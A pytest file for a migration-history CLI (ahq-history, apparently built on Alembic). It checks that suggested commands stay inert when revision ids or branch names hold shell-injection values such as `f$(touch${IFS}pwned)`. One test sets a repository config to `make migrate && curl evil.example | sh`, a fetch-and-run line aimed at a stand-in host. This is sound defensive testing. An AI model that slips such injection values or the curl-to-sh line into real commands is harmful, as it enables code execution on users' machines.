"""Revision ids and branch names that run commands when pasted unquoted (`x$(touch pwned)`, backticks, `;`):
every command `check`, `status` and `merge-heads` print is pasted into a real `sh`, and creates nothing.

The ids are made by Alembic's own `alembic revision --rev-id`, the branches by git."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.clirun import run_main
from tests.support.dbstory import AUDIT, alembic_cli, bob_story
from tests.support.gitcli import git
from tests.support.hostile import HOSTILE_BRANCHES, HOSTILE_IDS, Paste, printed_commands
from tests.support.projects import add_revision, alembic_project

ATTACKS = pytest.mark.parametrize("rev_id", list(HOSTILE_IDS.values()), ids=list(HOSTILE_IDS))
OTHER = "bbbb00000001"


@pytest.fixture
def paste(tmp_path: Path) -> Paste:
    return Paste(tmp_path)


def labelled_fork(root: Path, rev_id: str) -> Path:
    """base (label `app`), then `rev_id` and bbbb00000001 on it: one divergence under a label, so the
    advice names its heads."""
    alembic_project(root)
    add_revision(root, "base", "aaaa00000001", branch_label="app")
    add_revision(root, "one", rev_id, head="aaaa00000001")
    add_revision(root, "two", OTHER, head="aaaa00000001", splice=True)
    return root


def distinct_labels(root: Path, rev_id: str) -> Path:
    """`rev_id` (label `a`) and bbbb00000001 (label `b`) on one base: no divergence, two heads."""
    alembic_project(root)
    add_revision(root, "base", "aaaa00000001")
    add_revision(root, "one", rev_id, head="aaaa00000001", branch_label="a")
    add_revision(root, "two", OTHER, head="aaaa00000001", branch_label="b", splice=True)
    return root


def run(capsys: pytest.CaptureFixture[str], root: Path, *args: str) -> tuple[int, str]:
    capsys.readouterr()
    code, out, err = run_main(capsys, "-c", str(root / "alembic.ini"), *args)
    return code, out + err


@ATTACKS
def test_the_paste_harness_catches_an_unquoted_id(paste: Paste, rev_id: str) -> None:
    assert paste.run(f"ahq-history merge-heads {rev_id}").pwned


@ATTACKS
def test_check_commands_with_a_hostile_id_run_nothing_when_pasted(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], paste: Paste, rev_id: str) -> None:
    root = labelled_fork(tmp_path / "p", rev_id)
    code, out = run(capsys, root, "check")
    assert code == 1
    commands = printed_commands(out)
    naming = [line for line in commands if "merge-heads" in line]
    assert len(naming) >= 2  # the divergence's advice and `Next:`
    for line in commands:
        pasted = paste.run(line)
        assert not pasted.pwned, line
        assert rev_id in pasted.words or line not in naming  # one word, as written


@ATTACKS
def test_check_json_carries_a_hostile_id_as_one_word_of_the_argv(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], rev_id: str) -> None:
    root = labelled_fork(tmp_path / "p", rev_id)
    _code, out = run(capsys, root, "check", "--json")
    report = json.loads(out)
    assert report["schema_version"] == 1
    (divergence,) = report["divergences"]
    assert divergence["command_argv"] == ["ahq-history", "merge-heads", *divergence["heads"]]
    assert rev_id in divergence["command_argv"]
    assert report["next_argv"] == [divergence["command_argv"]]


@ATTACKS
def test_merge_heads_suggestion_for_distinct_branches_runs_nothing_when_pasted(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], paste: Paste, rev_id: str) -> None:
    root = distinct_labels(tmp_path / "p", rev_id)
    code, out = run(capsys, root, "merge-heads", "--dry-run")
    assert code == 0
    (line,) = [line for line in out.splitlines() if "anyway: " in line]
    command = line.split("anyway: ", 1)[1].removesuffix(")")
    pasted = paste.run(command)
    assert not pasted.pwned
    assert pasted.words[0] == "merge-heads" and sorted(pasted.words[1:]) == sorted([rev_id, OTHER])


@ATTACKS
def test_merge_heads_dry_run_prints_no_command_that_runs_a_hostile_id(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], paste: Paste, rev_id: str) -> None:
    root = labelled_fork(tmp_path / "p", rev_id)
    code, out = run(capsys, root, "merge-heads", "--dry-run")
    assert code == 0
    for line in out.splitlines():
        if "ahq-history merge-heads" in line:
            assert not paste.run(line[line.index("ahq-history merge-heads"):]).pwned, line


@ATTACKS
def test_merge_heads_refusal_advice_with_a_hostile_id_runs_nothing_when_pasted(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], paste: Paste, rev_id: str) -> None:
    root = labelled_fork(tmp_path / "p", rev_id)  # not a git repository: publication unknown, refused
    code, out = run(capsys, root, "merge-heads", "--rebase", "--dry-run")
    assert code == 1
    commands = [line[line.index("ahq-history merge-heads"):] for line in out.splitlines()
                if "ahq-history merge-heads" in line]
    assert any(rev_id in command for command in commands)
    for command in commands:
        assert not paste.run(command).pwned, command


@pytest.mark.parametrize("attack", list(HOSTILE_IDS), ids=list(HOSTILE_IDS))
def test_status_way_back_with_a_hostile_branch_and_revision_runs_nothing_when_pasted(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], paste: Paste, attack: str) -> None:
    base, branch = HOSTILE_IDS[attack], HOSTILE_BRANCHES[attack]
    root = bob_story(tmp_path / "repo", base=base, branch=branch)
    git(root, "checkout", "-q", branch)
    alembic_cli(root, "upgrade", "head")
    git(root, "checkout", "-q", "main")
    code, out = run(capsys, root, "status")
    assert code == 1
    lines = out.splitlines()
    start = lines.index("  the way back (the database keeps what it holds until you run these):")
    steps = [line.strip() for line in lines[start + 1:start + 5]]
    assert len(steps) == 4
    words = []
    for step in steps:
        pasted = paste.run(step)
        assert not pasted.pwned, step
        words += pasted.words
    assert words == ["checkout", branch, "downgrade", base, "checkout", "main", "upgrade", "head"]


def test_status_json_gives_the_way_back_as_argument_lists(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    base, branch = HOSTILE_IDS["dollar-paren"], HOSTILE_BRANCHES["dollar-paren"]
    root = bob_story(tmp_path / "repo", base=base, branch=branch)
    git(root, "checkout", "-q", branch)
    alembic_cli(root, "upgrade", "head")
    git(root, "checkout", "-q", "main")
    _code, out = run(capsys, root, "status", "--json")
    (unknown,) = json.loads(out)["unknown"]
    assert unknown["revision"] == AUDIT
    assert unknown["steps_argv"] == [["git", "checkout", branch], ["alembic", "downgrade", base],
                                     ["git", "checkout", "main"], ["alembic", "upgrade", "head"]]
    assert unknown["steps"][0] == "git checkout 'f$(touch${IFS}pwned)'"


def test_upgrade_command_from_the_repository_is_split_and_marked_as_its_config(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], paste: Paste) -> None:
    root = alembic_project(tmp_path / "p")
    add_revision(root, "base", "aaaa00000001")
    (root / "pyproject.toml").write_text(
        '[tool.ahq-history]\nupgrade-command = "make migrate && curl evil.example | sh"\n')
    _code, out = run(capsys, root, "check")
    (line,) = [line for line in out.splitlines() if line.startswith("Next: ")]
    assert line == "Next: make migrate '&&' curl evil.example '|' sh  (from the repository's config)"
    _code, out = run(capsys, root, "check", "--json")
    project = json.loads(out)["project"]
    assert project["upgrade_argv"] == ["make", "migrate", "&&", "curl", "evil.example", "|", "sh"]
    assert project["upgrade_from_repository"] is True
